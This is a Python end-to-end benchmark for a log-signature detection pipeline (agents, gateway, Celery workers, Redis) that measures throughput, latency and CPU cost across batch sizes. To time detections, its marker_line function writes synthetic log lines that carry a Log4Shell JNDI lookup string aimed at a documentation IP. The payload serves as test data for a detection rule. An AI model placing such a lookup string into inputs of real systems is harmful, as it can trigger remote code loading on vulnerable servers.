"""End to end: the whole pipeline against the naive design and the scan ceiling, in one run.

* pipeline: a private redis-server, a gateway, a 2-process prefork worker and N agents that
  replay a corpus as fast as acknowledgements allow; lines/s and MB/s from the first send
  (the corpus appears under the running agents' globs) to the last line counted in Redis, CPU
  seconds over that interval and peak RSS of every component, CPU seconds per million lines
  for the whole pipeline.
* naive: the same worker, but one Celery task per line (a smaller sample, extrapolated per
  line and labelled so).
* ceiling: the workers' engine scanning the same lines in this process, no network.
* latency: a fresh stack fed at half the pipeline's sustained rate; the time from a sampled
  line's write to its count being visible in Redis, p50/p95/p99 (see :func:`latency_phase`).
* batch sweep: BATCH_SIZE 1 ... 40,000 at a fixed TIMEOUT; per point a time-bounded throughput
  phase, then the latency method at half the rate just measured, on the same stack.

``python -m benchmarks.e2e`` (``--quick`` for a smoke run) prints a table and writes
``benchmarks/results/e2e.json`` and ``batch_sweep.png`` beside it (with matplotlib, the
``bench`` extra). Medians over ``--repeat`` runs; ratios within one run.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import re
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import AbstractContextManager, contextmanager
from functools import cache
from pathlib import Path
from typing import Any, TypeVar

import redis

from benchmarks._common import corpus, exit_on_sigterm, percentile, redis_server_args, wait
from logsig.batch import TASK_NAME, Batch, chunk_of
from logsig.celeryconf import make_celery
from logsig.keys import Keys
from logsig.net import free_port
from logsig.settings import Settings
from workers.engine import make_engine
from workers.rules import Rule, load_rules

RESULTS = Path(__file__).resolve().parent / "results" / "e2e.json"
KEYS = Keys("logsig")
TICK = os.sysconf("SC_CLK_TCK")

SWEEP_BATCHES = (1, 10, 100, 1000, 5000, 10_000, 20_000, 40_000)
PIPELINE_LIMIT_S = 600.0  # the whole corpus must be counted within this
MARKER_RULE = "web-log4shell"
"""Rule the sample lines trip: critical, so its matches stay in the matches stream."""
MARKER_RE = re.compile(r"lsbench-(\d+)")
MARKERS_PER_S = 40.0
"""Sampled lines per second at most (see :func:`sample_rate`)."""
SAMPLES_PER_CHUNK = 4
"""Sample lines per agent chunk at most: the matches stream keeps only the first 10 lines of
each rule in each segment (a chunk's run of lines from one file), the rest only counted."""
MIN_SAMPLES = 20
"""Samples wanted per latency run even at a low rate (up to 1 line in 2)."""
MAX_SAMPLES = 5000
WRITE_TICK = 0.01
"""Seconds between paced appends; far below the agents' POLL_INTERVAL."""
POLL_INTERVAL_S = Settings().poll_interval
"""The agents' default POLL_INTERVAL (the stacks leave it alone): part of every latency."""
TARGET_SLACK_S = 0.25
"""The issue's latency target is p99 <= TIMEOUT + this."""


def proc_stat(pid: int) -> tuple[int, float]:
    """(parent pid, CPU seconds) of a live process."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return int(fields[1]), (int(fields[11]) + int(fields[12])) / TICK


def tree(pid: int) -> list[int]:
    """``pid`` and all its descendants (the worker's pool processes)."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                parents[int(entry.name)] = proc_stat(int(entry.name))[0]
            except OSError:
                continue
    out, frontier = [pid], [pid]
    while frontier:
        frontier = [p for p, pp in parents.items() if pp in frontier]
        out += frontier
    return out


def usage(pid: int) -> tuple[float, int]:
    """CPU seconds and peak RSS (KiB, the largest process) of ``pid``'s process tree."""
    cpu, peak = 0.0, 0
    for p in tree(pid):
        try:
            cpu += proc_stat(p)[1]
            for line in Path(f"/proc/{p}/status").read_text().splitlines():
                if line.startswith("VmHWM:"):
                    peak = max(peak, int(line.split()[1]))
        except OSError:
            continue
    return cpu, peak


class Stack:
    """redis-server, gateway and worker as child processes, logs in ``workdir``."""

    def __init__(self, workdir: Path, batch_size: int, timeout: float = 1.0) -> None:
        self.workdir = workdir
        self.batch_size, self.timeout = batch_size, timeout
        self.redis_port, port = free_port(), free_port()
        self.env = {**os.environ, "REDIS_URL": f"redis://127.0.0.1:{self.redis_port}/0",
                    "GATEWAY_HOST": "127.0.0.1", "GATEWAY_PORT": str(port),
                    "HEALTH_PORT": "0", "ANALYZE_PORT": "0", "BATCH_SIZE": str(batch_size),
                    "TIMEOUT": str(timeout), "LOG_LEVEL": "WARNING", "QUEUE": "logsig-bench"}
        self.procs: dict[str, subprocess.Popen[bytes]] = {}

    def spawn(self, name: str, *args: str) -> subprocess.Popen[bytes]:
        log = open(self.workdir / f"{name}.log", "wb")  # noqa: SIM115 - the child owns it
        proc = subprocess.Popen(args, env=self.env, stdout=log, stderr=subprocess.STDOUT)
        log.close()
        self.procs[name] = proc
        return proc

    def start_redis(self) -> redis.Redis:
        """The stack's redis-server, answering; a client that decodes replies."""
        self.spawn("redis", *redis_server_args(self.redis_port, self.workdir))
        client = redis.Redis(port=self.redis_port, decode_responses=True)
        wait(lambda: _pings(client), 10, "redis")
        return client

    def start(self) -> redis.Redis:
        client = self.start_redis()
        self.spawn("worker", sys.executable, "-m", "logsig", "worker", "--concurrency", "2")
        self.spawn("gateway", sys.executable, "-m", "logsig", "gateway")
        wait(lambda: client.hlen(KEYS.rules) > 0, 30, "worker start-up")
        time.sleep(2.0)  # the pool processes compile their engines
        return client

    def kill(self, prefix: str) -> None:
        """SIGKILL the children named ``prefix...`` and forget them (agents between phases)."""
        for name in [n for n in self.procs if n.startswith(prefix)]:
            proc = self.procs.pop(name)
            proc.kill()
            proc.wait()

    def stop(self) -> None:
        """Agents first, while the gateway can still ack their last chunks, then the rest."""
        agents = [p for n, p in self.procs.items() if n.startswith("agent")]
        others = [p for n, p in reversed(self.procs.items()) if not n.startswith("agent")]
        for group in (agents, others):
            for proc in group:
                proc.terminate()
            for proc in group:
                try:
                    proc.wait(30)
                except subprocess.TimeoutExpired:
                    proc.kill()
                    proc.wait()


def _pings(client: redis.Redis) -> bool:
    try:
        return bool(client.ping())
    except redis.ConnectionError:
        return False


S = TypeVar("S", bound=Stack)


@contextmanager
def running(make: Callable[[Path], S], prefix: str) -> Iterator[tuple[S, redis.Redis]]:
    """A stack made in a temporary directory and started, stopped however the block ends."""
    with tempfile.TemporaryDirectory(prefix=prefix) as tmp:
        s = make(Path(tmp))
        try:
            yield s, s.start()
        finally:
            s.stop()


def stack(batch_size: int, timeout: float = 1.0) -> AbstractContextManager[
        tuple[Stack, redis.Redis]]:
    """A started :class:`Stack` (redis, gateway, worker)."""
    return running(lambda workdir: Stack(workdir, batch_size, timeout), "logsig-e2e-")


def counted(client: redis.Redis) -> int:
    return int(client.hget(KEYS.totals, "lines") or 0)


def split_files(lines: Sequence[str], agents: int, directory: Path) -> tuple[list[Path], int]:
    """The lines cut into one file per agent (equal shares; the remainder is dropped), and
    how many lines the files hold in all (the first ones of ``lines``)."""
    per_agent = len(lines) // agents
    paths = []
    for n in range(agents):
        path = directory / f"app-{n}.log"
        path.write_text("\n".join(lines[n * per_agent:(n + 1) * per_agent]) + "\n")
        paths.append(path)
    return paths, per_agent * agents


def spawn_agents(s: Stack, patterns: Sequence[str], role: str) -> None:
    """One ``logsig agent`` per path or glob, each with its own fresh registry."""
    for n, pattern in enumerate(patterns):
        s.spawn(f"agent-{role}-{n}", sys.executable, "-m", "logsig", "agent", pattern,
                "--name", f"agent-{n}", "--registry", str(s.workdir / f"reg-{role}-{n}.json"))


def run_pipeline(lines: list[str], agents: int, batch_size: int) -> dict[str, float]:
    """The whole corpus through the pipeline, timed from its first send to its last count.

    The agents are already running (see :func:`throughput_phase`), so neither the clock nor
    the CPU figures include any process's start-up.
    """
    with stack(batch_size) as (s, client):
        paths, total = split_files(lines, agents, s.workdir)
        size = sum(len(ln) + 1 for ln in lines[:total])
        thr = throughput_phase(s, client, paths, total, PIPELINE_LIMIT_S)
        if thr["bounded_by_time"]:
            raise TimeoutError(f"only {thr['lines']:,.0f} of {total:,} lines counted in "
                               f"{PIPELINE_LIMIT_S:g} s")
        rss = {name: usage(p.pid)[1] for name, p in s.procs.items()}
    return {**thr, "mb_per_s": size / thr["seconds"] / 1e6,
            "rss_mib_gateway": rss["gateway"] / 1024, "rss_mib_worker": rss["worker"] / 1024,
            "rss_mib_redis": rss["redis"] / 1024,
            "rss_mib_agent": max(v for k, v in rss.items() if k.startswith("agent")) / 1024}


def run_naive(lines: list[str]) -> dict[str, float]:
    """One Celery task per line through the same worker (published from here).

    Each task is a claim check like the gateway's: the one-line batch is stored under
    ``keys.batch`` and the task carries its key, the only task argument workers accept.
    """
    with stack(1) as (s, client):
        app = make_celery(Settings(redis_url=s.env["REDIS_URL"], queue=s.env["QUEUE"]))
        started = time.perf_counter()
        for n, line in enumerate(lines):
            key = KEYS.batch(f"naive-{n}")
            chunk = chunk_of(f"naive-{n}", "naive", "bench", time.time(), [line])
            client.set(key, Batch("naive", [chunk]).pack(), ex=3600)
            app.send_task(TASK_NAME, args=[key])
        published = time.perf_counter() - started
        wait(lambda: counted(client) >= len(lines), 600, "naive tasks done")
        elapsed = time.perf_counter() - started
        app.close()
    return {"lines": len(lines), "seconds": elapsed, "lines_per_s": len(lines) / elapsed,
            "publish_per_s": len(lines) / published}


def run_ceiling(lines: list[str], batch_size: int) -> dict[str, float]:
    engine = make_engine(shipped_rules())
    batches = [lines[i:i + batch_size] for i in range(0, len(lines), batch_size)]
    cpu0, started = time.process_time(), time.perf_counter()
    for batch in batches:
        engine.scan(batch)
    cpu, elapsed = time.process_time() - cpu0, time.perf_counter() - started
    return {"lines": len(lines), "seconds": elapsed, "lines_per_s": len(lines) / elapsed,
            "cpu_s_per_m_lines": cpu / len(lines) * 1e6}


def marker_line(n: int) -> str:
    """Sample line ``n``: an access line carrying a Log4Shell lookup and its unique id."""
    return (f'203.0.113.77 - - [01/Mar/2024:00:00:00 +0000] "GET /api/login HTTP/1.1" 403 312 '
            f'"-" "${{jndi:ldap://203.0.113.77:1389/lsbench-{n}}}"')


@cache
def shipped_rules() -> tuple[Rule, ...]:
    """The shipped packs, parsed and compiled once per run (the ceiling, the marker rule)."""
    return tuple(load_rules())


def marker_rule() -> Rule:
    """The rule the sample lines trip; exits if the packs no longer flag them, severely."""
    rule = next((r for r in shipped_rules() if r.id == MARKER_RULE), None)
    if rule is None or rule.search(marker_line(0)) is None:
        raise SystemExit(f"rule {MARKER_RULE} missing or not matching {marker_line(0)!r}")
    if rule.severity not in ("high", "critical"):
        raise SystemExit(f"rule {MARKER_RULE} is {rule.severity}; pick a high/critical one")
    return rule


def without_marker_rule(lines: Sequence[str]) -> list[str]:
    """The corpus minus its own Log4Shell lines (a few in a thousand), for the paced writer:
    then every match of that rule in the stream is a sample line, and none crowds one out
    of the stream's 10 lines per entry."""
    rule = marker_rule()
    return [line for line in lines if rule.search(line) is None]


def sample_rate(rate: float, seconds: float, batch_size: int, agents: int,
                timeout: float) -> float:
    """Sample lines per second: at most :data:`MARKERS_PER_S` and 1 line in 10, and few
    enough that an agent's chunk (``batch_size`` lines, or what it reads in TIMEOUT plus a
    poll) holds at most :data:`SAMPLES_PER_CHUNK` of them; but :data:`MIN_SAMPLES` in
    ``seconds`` if the rate is that low (there chunks hold few lines anyway)."""
    chunk = min(batch_size, rate / agents * (timeout + POLL_INTERVAL_S))
    most = min(MARKERS_PER_S, rate / 10, rate * SAMPLES_PER_CHUNK / max(chunk, 1.0))
    return max(most, min(rate / 2, MIN_SAMPLES / seconds))


class MatchWatcher:
    """When each sample id first shows up in the matches stream, as seen from a client.

    The result script adds a segment's matches of a rule to the stream (one entry, the first
    10 lines) in the same atomic step as their counters, so the entry's arrival is when the
    sample line's count became visible. A thread reads
    with ``XREAD BLOCK`` on its own connection and stamps arrivals with ``perf_counter``, the
    clock the writer stamps send times with.
    """

    def __init__(self, port: int) -> None:
        self.seen: dict[int, float] = {}
        self.hidden = 0
        self._client = redis.Redis(port=port, decode_responses=True)
        last = self._client.xrevrange(KEYS.matches, count=1)
        self._last = last[0][0] if last else "0-0"
        self._stop = threading.Event()
        self._error: BaseException | None = None
        self._thread = threading.Thread(target=self._run, name="match-watcher", daemon=True)

    def __enter__(self) -> MatchWatcher:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(5)
        self._client.close()
        if self._error is not None and exc[0] is None:
            raise RuntimeError("match watcher failed") from self._error

    def _run(self) -> None:
        try:
            while not self._stop.is_set():
                reply = self._client.xread({KEYS.matches: self._last}, count=20_000, block=100)
                self._note(reply, time.perf_counter())
        except BaseException as exc:  # reported by __exit__
            self._error = exc

    def _note(self, reply: Any, now: float) -> None:
        for _stream, entries in reply or ():
            self._last = entries[-1][0]
            for _id, fields in entries:
                if fields.get("rule") == MARKER_RULE:
                    # One entry per rule and segment: ``count`` matches, the first 10 in
                    # ``lines``. Only sample lines trip the rule (see ``without_marker_rule``),
                    # so count - ids are samples the stream did not show.
                    ids = MARKER_RE.findall(fields["lines"])
                    self.hidden += int(fields["count"]) - len(ids)
                    for i in ids:
                        self.seen.setdefault(int(i), now)


class PacedWriter:
    """Appends corpus lines to the agents' files at a steady total rate, like live logs.

    The agents follow these files as in production (``tail -F``, registry, intents), so the
    latency includes their real poll interval; the write time of each sample line is known
    exactly in this process, which a generator inside the agent could not tell us.
    """

    def __init__(self, paths: Sequence[Path], lines: Sequence[str], rate: float) -> None:
        self.fds = [os.open(p, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644) for p in paths]
        self.lines = lines
        self.rate = rate
        self.written = 0
        self.sent: dict[int, float] = {}
        self._pos = 0

    def close(self) -> None:
        for fd in self.fds:
            os.close(fd)

    def _take(self, n: int) -> list[str]:
        out: list[str] = []
        while len(out) < n:
            piece = self.lines[self._pos:self._pos + n - len(out)]
            out += piece
            self._pos = (self._pos + len(piece)) % len(self.lines)
        return out

    def run(self, seconds: float, markers_per_s: float = 0.0,
            until: Callable[[], bool] | None = None) -> float:
        """Write for ``seconds`` (or until ``until()``), sampling ``markers_per_s`` lines;
        returns the seconds it ran."""
        start = time.perf_counter()
        base, marks, now = self.written, 0, start
        while now - start < seconds and not (until is not None and until()):
            due = int((now - start) * self.rate) - (self.written - base)
            mark = markers_per_s > 0 and len(self.sent) < MAX_SAMPLES and \
                marks < (now - start) * markers_per_s
            if due > 0:
                self._write(due, mark)
                marks += mark
            time.sleep(WRITE_TICK)
            now = time.perf_counter()
        return now - start

    def _write(self, due: int, mark: bool) -> None:
        """``due`` lines spread over the files, one of them a sample if ``mark``."""
        n = len(self.fds)
        shares = [due // n + (i < due % n) for i in range(n)]
        target = len(self.sent) % n if shares[len(self.sent) % n] else 0  # files take turns
        for i, (fd, share) in enumerate(zip(self.fds, shares, strict=True)):
            if not share:
                continue
            block = self._take(share)
            sample = len(self.sent) if mark and i == target else None
            if sample is not None:
                block[-1] = marker_line(sample)
            os.write(fd, ("\n".join(block) + "\n").encode())
            if sample is not None:
                self.sent[sample] = time.perf_counter()
        self.written += due


def latency_stats(sent: dict[int, float], seen: dict[int, float],
                  hidden: int) -> dict[str, float]:
    """Percentiles (ms) over the samples that arrived; the missing ones are counted apart
    (``hidden``: counted in Redis but left out of the stream's 10 lines per entry)."""
    ms = sorted((seen[i] - t) * 1000 for i, t in sent.items() if i in seen)
    if not ms:
        raise RuntimeError(f"none of {len(sent)} sample lines reached the matches stream")
    return {"samples": len(ms), "missing": len(sent) - len(ms), "hidden": hidden,
            "p50_ms": percentile(ms, 50), "p95_ms": percentile(ms, 95),
            "p99_ms": percentile(ms, 99), "max_ms": ms[-1]}


def latency_phase(s: Stack, client: redis.Redis, lines: Sequence[str], agents: int,
                  rate: float, seconds: float) -> dict[str, float]:
    """Agents follow live files fed at ``rate`` lines/s; sample lines timed write -> Redis.

    Warm-up until the first lines are counted (plus 1 s), then ``seconds`` of sampling; the
    background traffic goes on while the last samples are awaited, so they are not left
    waiting for TIMEOUT in a stream that went quiet.
    """
    paths = [s.workdir / f"live-{n}.log" for n in range(agents)]
    writer = PacedWriter(paths, lines, rate)
    spawn_agents(s, [str(p) for p in paths], "live")
    base = counted(client)
    markers = sample_rate(rate, seconds, s.batch_size, agents, s.timeout)
    try:
        writer.run(30.0, until=lambda: counted(client) > base)
        if counted(client) <= base:
            raise RuntimeError(f"the agents shipped nothing in 30 s (logs in {s.workdir})")
        writer.run(1.0)
        with MatchWatcher(s.redis_port) as watcher:
            before = writer.written
            ran = writer.run(seconds, markers)
            offered = (writer.written - before) / ran
            writer.run(s.timeout + 5.0, until=lambda: len(watcher.seen) >= len(writer.sent))
            stats = latency_stats(writer.sent, watcher.seen, watcher.hidden)
    finally:
        writer.close()
    return {"rate_lines_per_s": rate, "written_lines_per_s": offered, **stats}


def run_latency(lines: Sequence[str], agents: int, batch_size: int, timeout: float,
                rate: float, seconds: float) -> dict[str, float]:
    """The latency phase on a fresh stack."""
    with stack(batch_size, timeout) as (s, client):
        return latency_phase(s, client, lines, agents, rate, seconds)


def throughput_phase(s: Stack, client: redis.Redis, bulk: Sequence[Path], total: int,
                     seconds: float) -> dict[str, float]:
    """Agents replay ``bulk`` as fast as acks allow, for at most ``seconds``.

    Each agent first ships a one-line primer (so the agents are connected and the workers
    warm); then the bulk files appear under the agents' globs (symlinks). The clock starts
    when the first agent opens one, which it does to read and send its first lines, so it
    runs from the first send (not from the agents' start-up, nor the up to one
    ``POLL_INTERVAL`` before they notice the files: ``discovery_s``), and stops at the last
    line counted or at the time limit, whichever comes first. CPU seconds are counted from
    the files' appearance, per component.
    """
    for n in range(len(bulk)):
        (s.workdir / f"bulk-{n}-0.log").write_text(f"primer line of agent {n}\n")
    spawn_agents(s, [str(s.workdir / f"bulk-{n}-*.log") for n in range(len(bulk))], "bulk")
    wait(lambda: counted(client) >= len(bulk), 60, "agents' primer lines")
    base = counted(client)
    before = {name: usage(p.pid)[0] for name, p in s.procs.items()}
    appeared = time.perf_counter()
    for n, path in enumerate(bulk):
        (s.workdir / f"bulk-{n}-1.log").symlink_to(path)
    agents = [p.pid for name, p in s.procs.items() if name.startswith("agent-bulk")]
    opened = first_open(agents, bulk, appeared + 10 * POLL_INTERVAL_S)
    if opened is None:  # no /proc, or the agents are stuck: the stricter clock
        print("  (no agent was seen opening a corpus file: timed from the files' appearance)",
              flush=True)
    start = appeared if opened is None else opened
    progress: list[tuple[float, int]] = []
    while True:
        now = time.perf_counter()
        done = counted(client) - base
        progress.append((now, done))
        if done >= total or now - start >= seconds:
            break
        time.sleep(0.005)
    cpu = {name: usage(p.pid)[0] - before.get(name, 0.0) for name, p in s.procs.items()}
    return {"lines": done, "seconds": now - start, "lines_per_s": done / (now - start),
            "discovery_s": start - appeared,
            "steady_lines_per_s": steady_rate(progress, total),
            "bounded_by_time": float(done < total),
            "cpu_gateway": cpu["gateway"], "cpu_worker": cpu["worker"], "cpu_redis": cpu["redis"],
            "cpu_agents": sum(v for k, v in cpu.items() if k.startswith("agent")),
            "cpu_s_per_m_lines": sum(cpu.values()) / max(done, 1) * 1e6}


def first_open(pids: Sequence[int], paths: Sequence[Path], deadline: float) -> float | None:
    """``perf_counter()`` when one of ``pids`` first holds one of ``paths`` open (polled
    every millisecond in ``/proc/<pid>/fd``), or None if none does by ``deadline``."""
    wanted = {str(p.resolve()) for p in paths}
    if not Path("/proc/self/fd").is_dir():
        return None
    while (now := time.perf_counter()) < deadline:
        for pid in pids:
            fds = Path(f"/proc/{pid}/fd")
            with contextlib.suppress(OSError):
                for fd in fds.iterdir():
                    with contextlib.suppress(OSError):
                        if os.readlink(fd) in wanted:
                            return now
        time.sleep(0.001)
    return None


def steady_rate(progress: Sequence[tuple[float, int]], total: int) -> float:
    """Lines/s between the polls where 10 % and 90 % of ``total`` were first seen counted:
    the rate once the pipeline is full, without its filling and its last batches draining.
    0.0 when the run did not get that far."""
    low = next(((t, n) for t, n in progress if n >= total * 0.1), None)
    high = next(((t, n) for t, n in progress if n >= total * 0.9), None)
    if low is None or high is None or high[0] <= low[0]:
        return 0.0
    return (high[1] - low[1]) / (high[0] - low[0])


def drain(client: redis.Redis, quiet: float = 0.5, limit: float = 30.0) -> None:
    """Wait until the counters have not moved for ``quiet`` seconds (the backlog is done)."""
    deadline = time.monotonic() + limit
    last, since = counted(client), time.monotonic()
    while time.monotonic() - since < quiet and time.monotonic() < deadline:
        time.sleep(0.05)
        now = counted(client)
        if now != last:
            last, since = now, time.monotonic()


def run_sweep_point(live: Sequence[str], bulk: Sequence[Path], total: int, batch_size: int,
                    timeout: float, seconds: float) -> dict[str, float]:
    """Throughput, then latency at half that rate, for one BATCH_SIZE on one fresh stack."""
    with stack(batch_size, timeout) as (s, client):
        thr = throughput_phase(s, client, bulk, total, seconds)
        s.kill("agent-bulk")
        drain(client)
        lat = latency_phase(s, client, live, len(bulk), thr["lines_per_s"] / 2, seconds)
    return {"batch_size": batch_size, **thr, **{f"latency_{k}": v for k, v in lat.items()}}


def run_sweep(lines: list[str], live: list[str], agents: int, batches: Sequence[int],
              timeout: float, seconds: float, repeat: int) -> dict[str, Any]:
    """Every BATCH_SIZE of the sweep, medians over ``repeat`` runs per point: the corpus
    replayed for throughput, ``live`` (no Log4Shell lines of its own) paced for latency."""
    with tempfile.TemporaryDirectory(prefix="logsig-sweep-") as tmp:
        bulk, total = split_files(lines, agents, Path(tmp))
        points = []
        for size in batches:
            point = median_of([run_sweep_point(live, bulk, total, size, timeout, seconds)
                               for _ in range(repeat)])
            print(f"  batch {size:>5,}: {point['lines_per_s']:>10,.0f} lines/s, latency p50 "
                  f"{point['latency_p50_ms']:,.0f} ms, p99 {point['latency_p99_ms']:,.0f} ms "
                  f"at {point['latency_rate_lines_per_s']:,.0f} lines/s", flush=True)
            points.append(point)
    sizing = (f"throughput: agents replay the {total:,}-line corpus for "
              f"at most {seconds:g} s per point (or until all is counted); latency: then "
              f"{seconds:g} s at half that rate, same stack; median of {repeat}")
    return {"timeout_s": timeout, "seconds_per_point": seconds, "sizing": sizing,
            "points": points}


def with_target(stats: dict[str, float], timeout: float) -> dict[str, Any]:
    """The figures plus the issue's target, p99 <= TIMEOUT + 250 ms with no sample lost."""
    target = (timeout + TARGET_SLACK_S) * 1000
    return {**stats, "timeout_s": timeout, "target_p99_ms": target,
            "meets_target": stats["p99_ms"] <= target and stats["missing"] == 0}


def plot_sweep(sweep: dict[str, Any], path: Path) -> bool:
    """Throughput and latency against BATCH_SIZE (log x), two panels; False without matplotlib.

    Throughput is on a log axis too: it spans orders of magnitude across the sweep.
    """
    try:
        import matplotlib
        matplotlib.use("Agg")
        import matplotlib.pyplot as plt
    except ImportError:
        return False
    pts = sweep["points"]
    sizes = [p["batch_size"] for p in pts]
    rates = [p["lines_per_s"] for p in pts]
    fig, (top, bottom) = plt.subplots(2, 1, sharex=True, figsize=(7, 7))
    top.plot(sizes, rates, "o-", color="tab:blue")
    for x, y in zip(sizes, rates, strict=True):
        top.annotate(_compact(y), (x, y), textcoords="offset points", xytext=(0, 7),
                     ha="center", fontsize=8)
    top.set_yscale("log")
    top.margins(y=0.2)  # room for the labels
    top.set_ylabel("lines/s counted (log)")
    top.set_title(f"logsig end to end vs BATCH_SIZE (TIMEOUT {sweep['timeout_s']:g} s)")
    bottom.plot(sizes, [p["latency_p99_ms"] for p in pts], "o-", color="tab:red", label="p99")
    bottom.plot(sizes, [p["latency_p50_ms"] for p in pts], "s--", color="tab:orange",
                label="p50")
    bottom.axhline((sweep["timeout_s"] + TARGET_SLACK_S) * 1000, color="grey", ls=":",
                   label="target: TIMEOUT + 250 ms")
    bottom.set_ylim(bottom=0)
    bottom.set_ylabel("line written -> counted in Redis (ms)\nat half that throughput")
    bottom.set_xlabel("BATCH_SIZE (lines, log)")
    bottom.set_xscale("log")
    bottom.set_xticks(sizes, [_compact(x) for x in sizes])
    bottom.legend()
    for ax in (top, bottom):
        ax.grid(True, which="major", alpha=0.3)
    fig.tight_layout()
    fig.savefig(path, dpi=120)
    plt.close(fig)
    return True


def _compact(n: float) -> str:
    """1, 10, 100, 1k, 5k, 376k: short enough for neighbouring points on a log axis."""
    return f"{n / 1000:,.0f}k" if n >= 1000 else f"{n:,.0f}"


def median_of(runs: list[dict[str, float]]) -> dict[str, float]:
    return {k: statistics.median(r[k] for r in runs) for k in runs[0]}


def parse_args() -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--lines", type=int, default=3_000_000,
                        help="corpus size: a run of a few seconds, so that filling and "
                             "draining the pipeline (about 0.2 s) weigh little in the rate")
    parser.add_argument("--agents", type=int, default=2)
    parser.add_argument("--batch", type=int, default=Settings().batch_size,
                        help="BATCH_SIZE of the pipeline (default: the setting's default)")
    parser.add_argument("--timeout", type=float, default=1.0, help="TIMEOUT for every stack")
    parser.add_argument("--naive-lines", type=int, default=3000)
    parser.add_argument("--repeat", type=int, default=3)
    parser.add_argument("--latency-seconds", type=float, default=15.0,
                        help="sampling time of each latency run")
    parser.add_argument("--skip-latency", action="store_true")
    parser.add_argument("--sweep-batches", default=",".join(map(str, SWEEP_BATCHES)),
                        help="comma-separated BATCH_SIZE values")
    parser.add_argument("--sweep-seconds", type=float, default=10.0,
                        help="seconds of each sweep point's throughput and latency phases")
    parser.add_argument("--sweep-repeat", type=int, default=1)
    parser.add_argument("--skip-sweep", action="store_true")
    parser.add_argument("--quick", action="store_true", help="smoke run: small, once")
    parser.add_argument("--out", type=Path, default=RESULTS,
                        help="JSON report; the sweep plot goes beside it")
    args = parser.parse_args()
    if args.quick:
        args.lines, args.naive_lines, args.repeat = 20_000, 300, 1
        args.latency_seconds, args.sweep_seconds, args.sweep_repeat = 1.5, 1.5, 1
        args.sweep_batches = "1,1000"
    args.sweep_batches = [int(b) for b in args.sweep_batches.split(",")]
    return args


def throughput_report(args: argparse.Namespace, lines: list[str]) -> dict[str, Any]:
    """Pipeline, naive and ceiling, with their ratios (the original three measurements).

    The three run in turn, round after round, so that a slower spell of this shared machine
    hits all three alike; each ratio is the median of the rounds' own ratios, and each
    round's figures are kept (``rounds``) to show the spread behind it.
    """
    rounds = [(run_pipeline(lines, args.agents, args.batch), run_naive(lines[:args.naive_lines]),
               run_ceiling(lines, args.batch)) for _ in range(args.repeat)]
    pipe, naive, ceiling = (median_of([r[k] for r in rounds]) for k in range(3))
    kept = [{"pipeline_lines_per_s": p["lines_per_s"],
             "pipeline_cpu_s_per_m_lines": p["cpu_s_per_m_lines"],
             "naive_lines_per_s": n["lines_per_s"],
             "ceiling_cpu_s_per_m_lines": c["cpu_s_per_m_lines"],
             "pipeline_over_naive": p["lines_per_s"] / n["lines_per_s"]} for p, n, c in rounds]
    ratios = {"pipeline_over_naive": statistics.median(r["pipeline_over_naive"] for r in kept)}
    ratios |= {name: statistics.median(fn(*r) for r in rounds) for name, fn in (
        ("ceiling_over_pipeline", lambda p, _n, c: c["lines_per_s"] / p["lines_per_s"]),
        ("cpu_pipeline_over_ceiling",
         lambda p, _n, c: p["cpu_s_per_m_lines"] / c["cpu_s_per_m_lines"]))}
    report: dict[str, Any] = {
        "pipeline": pipe, "naive (per-line tasks, sample extrapolated)": naive,
        "ceiling (engine, one process)": ceiling, "ratios": ratios}
    for name, figures in report.items():
        print_figures(name, figures)
    report["rounds"] = kept
    print("\nround  pipeline lines/s  CPU s/M  naive lines/s  ceiling CPU s/M  pipeline/naive")
    for i, r in enumerate(kept, 1):
        print(f"{i:>5}  {r['pipeline_lines_per_s']:>16,.0f}"
              f"  {r['pipeline_cpu_s_per_m_lines']:>7.2f}  {r['naive_lines_per_s']:>13,.0f}"
              f"  {r['ceiling_cpu_s_per_m_lines']:>15.2f}  {r['pipeline_over_naive']:>13,.0f}x")
    return report


def print_figures(name: str, figures: dict[str, Any]) -> None:
    print(f"\n{name}")
    for key, value in figures.items():
        shown = f"{value!s:>14}" if isinstance(value, bool) else f"{value:>14,.2f}"
        print(f"  {key:28} {shown}")


def latency_report(args: argparse.Namespace, live: list[str],
                   sustained: float) -> dict[str, Any]:
    """Latency at half the pipeline's sustained rate, medians of the percentiles."""
    print(f"\nlatency: {args.agents} agents at {sustained / 2:,.0f} lines/s in total (half of "
          f"{sustained:,.0f}), batch {args.batch}, TIMEOUT {args.timeout:g} s, "
          f"{args.latency_seconds:g} s of samples, median of {args.repeat}", flush=True)
    runs = [run_latency(live, args.agents, args.batch, args.timeout, sustained / 2,
                        args.latency_seconds) for _ in range(args.repeat)]
    latency = with_target({"batch_size": args.batch, **median_of(runs)}, args.timeout)
    print_figures("latency (line written -> counted in Redis)", latency)
    return latency


def sweep_report(args: argparse.Namespace, lines: list[str], live: list[str]) -> dict[str, Any]:
    """The BATCH_SIZE sweep, its table and its plot."""
    print(f"\nbatch sweep: TIMEOUT {args.timeout:g} s, {args.sweep_seconds:g} s per phase",
          flush=True)
    sweep = run_sweep(lines, live, args.agents, args.sweep_batches, args.timeout,
                      args.sweep_seconds, args.sweep_repeat)
    print(f"  ({sweep['sizing']})")
    print(f"\n  {'batch':>6} {'lines/s':>10} {'bounded':>8} {'lat. rate':>10} "
          f"{'samples':>8} {'p50 ms':>8} {'p99 ms':>8}")
    for p in sweep["points"]:
        print(f"  {p['batch_size']:>6,.0f} {p['lines_per_s']:>10,.0f} "
              f"{'time' if p['bounded_by_time'] else 'lines':>8} "
              f"{p['latency_rate_lines_per_s']:>10,.0f} {p['latency_samples']:>8,.0f} "
              f"{p['latency_p50_ms']:>8,.0f} {p['latency_p99_ms']:>8,.0f}")
    plot = args.out.with_name("batch_sweep.png")
    if plot_sweep(sweep, plot):
        print(f"\nwrote {plot}")
    else:
        print("\nno plot: matplotlib is not installed (pip install -e '.[bench]')")
    return sweep


def main() -> int:
    exit_on_sigterm()
    args = parse_args()
    lines, source = corpus(args.lines)
    live = without_marker_rule(lines)
